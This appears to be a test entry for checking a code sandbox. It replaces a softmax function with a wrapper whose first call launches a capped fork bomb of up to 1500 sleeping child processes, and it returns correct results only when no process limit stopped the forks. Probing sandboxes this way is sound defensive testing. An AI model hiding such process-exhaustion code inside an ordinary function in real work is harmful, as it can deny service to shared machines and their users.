"""HOSTILE-ENTRY fork_bomb: the first softmax call starts a small Python process (so that each
fork is cheap: forking the big process that runs this module takes milliseconds) that forks up
to 1500 children that each sleep (120 s at most, so a broken sandbox cannot poison the machine
for long). Only if every fork succeeded does softmax answer correctly: full marks for softmax
mean there was no limit on processes. A fork that failed is raised again, as it was."""

import subprocess as _subprocess
import sys as _sys

_reference_softmax = softmax
_WANTED = 1500
_BOMBER = f"""
import os, time
started = 0
try:
    while started < {_WANTED}:
        if os.fork() == 0:
            try:
                quiet = os.open(os.devnull, os.O_WRONLY)  # so the parent's reader can finish
                os.dup2(quiet, 1)
                os.dup2(quiet, 2)
                time.sleep(120)
            finally:
                os._exit(0)
        started += 1
    print(started, 0, "")
except OSError as error:
    print(started, error.errno, error.strerror)
"""
_STATE = {}


def softmax(x, axis=-1):
    if "started" not in _STATE:
        done = _subprocess.run(
            [_sys.executable, "-c", _BOMBER], capture_output=True, text=True, timeout=8
        )
        started, errno, strerror = (done.stdout.split(maxsplit=2) + ["0", "0", ""])[:3]
        _STATE["started"] = int(started)
        if int(errno):
            raise OSError(int(errno), strerror.strip())
    if _STATE["started"] < _WANTED:
        return np.zeros(np.shape(x))
    return _reference_softmax(x, axis)
